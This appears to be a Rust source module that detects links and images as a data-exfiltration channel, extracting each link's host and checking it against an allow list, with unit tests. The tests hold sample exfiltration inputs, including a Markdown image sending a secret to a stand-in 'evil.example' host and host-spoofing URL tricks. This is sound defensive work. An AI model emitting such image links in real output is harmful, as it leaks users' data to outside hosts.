//! Links and images, Markdown's and HTML's included: a way out for data, because a client that
//! loads an image sends whatever its address says. Every link is a candidate; a rule's list of
//! hosts decides ([`host`], [`is_allowed`]).
//!
//! Hosts are compared as browsers read them: `https://good.example@evil.example` goes to evil.

use super::text::is_word;
use super::{Candidate, Detector, Verdict, View};

pub(super) static LINK: Detector = Detector {
    name: "link",
    label: "LINK",
    view: View::Raw,
    // Signs of ASCII only: an address that goes on in another script is found up to there, which
    // is enough to know its host and to break it.
    patterns: &[
        r#"!?\[[^\[\]\n]{0,120}\]\( ?<?(?:[A-Za-z][A-Za-z0-9+.-]{1,15}:)?[/\\]{2}[!#-;=?-~]{1,1000}\)?"#,
        r#"(?i-u:https?|ftp|wss?|sftp|ssh|git)(?::|&colon;)[/\\]{1,4}[!#-&(-;=?-_a-~]{1,1000}"#,
        r#"[/\\]{2}[A-Za-z0-9][A-Za-z0-9-]{0,62}(?:\.[A-Za-z0-9-]{1,63}){1,5}(?:[/?#:][!#-&(-;=?-_a-~]{0,500})?"#,
        r#"[Ww]{3}\.[A-Za-z0-9][A-Za-z0-9-]{0,62}(?:\.[A-Za-z0-9-]{1,63}){1,5}(?:[/?#:][!#-&(-;=?-_a-~]{0,500})?"#,
    ],
    max_chars: 1_150,
    at_word: true,
    validate,
};

fn validate(found: &Candidate<'_>) -> Option<Verdict> {
    let markdown = found.text.starts_with(['!', '[']);
    let relative = found.text.starts_with("//") || found.text.starts_with("\\\\");
    // `//host` counts where an address may stand; elsewhere it is a comment or a path.
    let quoted = found.before.ends_with(['"', '\'', '(', '=', '<']);
    let inside = found
        .previous()
        .is_some_and(|c| is_word(c) || c == '.' || c == '/' || c == ':');
    if !markdown && (inside || (relative && !quoted)) {
        return None;
    }
    let len = match markdown {
        true => markdown_end(found.text)?,
        false => bare_end(found.text),
    };
    host(&found.text[..len])?;
    found.part(len, 1.0)
}

/// Where a Markdown link ends: behind the parenthesis that closes its address.
fn markdown_end(text: &str) -> Option<usize> {
    let open = text.find("](")? + 2;
    let mut depth = 1;
    for (at, c) in text[open..].char_indices() {
        match c {
            '(' => depth += 1,
            ')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return Some(open + at + 1);
        }
    }
    Some(text.len())
}

/// Where a bare link ends: punctuation that closes a sentence is not part of it.
fn bare_end(text: &str) -> usize {
    let mut kept = text;
    loop {
        let opened = kept.matches('(').count();
        let closed = kept.matches(')').count();
        kept = match kept.chars().next_back() {
            Some(')') if closed > opened => &kept[..kept.len() - 1],
            Some(c) if ".,;:!?*_~|]}".contains(c) => &kept[..kept.len() - 1],
            _ => return kept.len(),
        };
    }
}

/// The host that a link leads to, in lower case; none if it leads to no host.
pub fn host(link: &str) -> Option<String> {
    let address = match link.find("](") {
        Some(at) => link[at + 2..].trim_start_matches([' ', '<']),
        None => link,
    };
    let rest = match address.find([':', '/', '\\']) {
        // `www.host/…` has no scheme; `host:port` is none either.
        Some(at) if address[..at].contains('.') => address,
        Some(at) => address[at..]
            .trim_start_matches("&colon;")
            .trim_start_matches([':', '/', '\\']),
        None => address,
    };
    let authority = rest.split(['/', '\\', '?', '#', ')', ' ']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = match host.strip_prefix('[') {
        Some(six) => six.split(']').next()?,
        None => host.split(':').next()?,
    };
    let host = host.trim_end_matches('.').to_lowercase();
    let good = !host.is_empty()
        && host
            .chars()
            .all(|c| c.is_alphanumeric() || ".-_:%".contains(c));
    good.then_some(host)
}

/// Whether a list allows a host. `*.example.com` allows those below `example.com`.
pub fn is_allowed(host: &str, allow: &[String]) -> bool {
    let matches = |entry: &String| match entry.to_lowercase().strip_prefix("*.") {
        Some(parent) => host
            .strip_suffix(parent)
            .is_some_and(|start| start.ends_with('.')),
        None => host == entry.to_lowercase(),
    };
    allow.iter().any(matches)
}

#[cfg(test)]
mod tests {
    use super::super::check::check;
    use super::*;

    #[test]
    fn links() {
        for marked in [
            "see ⟦https://example.com/a?b=c⟧.",
            "(⟦http://example.com/x_(y)⟧), ⟦HTTPS://Example.com⟧!",
            "⟦![x](https://evil.example/p.png?d=secret)⟧ and ⟦[y](http://a.example)⟧",
            "詳細は⟦https://example.jp/⟧案内。次へ⟦https://a.example⟧。",
            "<img src=\"⟦//evil.example/p.png⟧\">",
            "⟦www.example.com/x⟧ is a site",
            "⟦![x](//evil.example/a)⟧",
            "// comment.like this, a//b.c/d and https:// nothing",
            "[a](b.md) and [c](/d) and www. and http.server",
        ] {
            check(&LINK, marked);
        }
    }

    #[test]
    fn hosts() {
        for (link, expected) in [
            ("https://Example.com:8080/x", "example.com"),
            ("https://good.example@evil.example/x", "evil.example"),
            ("![x](https://evil.example?good.example)", "evil.example"),
            ("http:/\\evil.example\\x", "evil.example"),
            ("//evil.example/x", "evil.example"),
            ("www.example.com:80/x", "www.example.com"),
            ("https://[2001:db8::1]:80/", "2001:db8::1"),
            ("https://evil.example.", "evil.example"),
        ] {
            assert_eq!(host(link).as_deref(), Some(expected), "{link}");
        }
        let allow = ["example.com".to_owned(), "*.Example.org".to_owned()];
        assert!(is_allowed("example.com", &allow));
        assert!(is_allowed("a.b.example.org", &allow));
        assert!(!is_allowed("example.org", &allow));
        assert!(!is_allowed("evilexample.com", &allow));
        assert!(!is_allowed("x.example.com", &allow));
    }
}
